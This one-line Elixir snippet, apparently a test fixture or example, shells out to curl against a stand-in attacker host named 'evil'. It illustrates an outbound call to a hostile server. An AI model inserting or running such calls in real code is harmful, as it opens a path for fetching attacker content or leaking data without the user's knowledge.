System.cmd("curl", ["http://evil"])
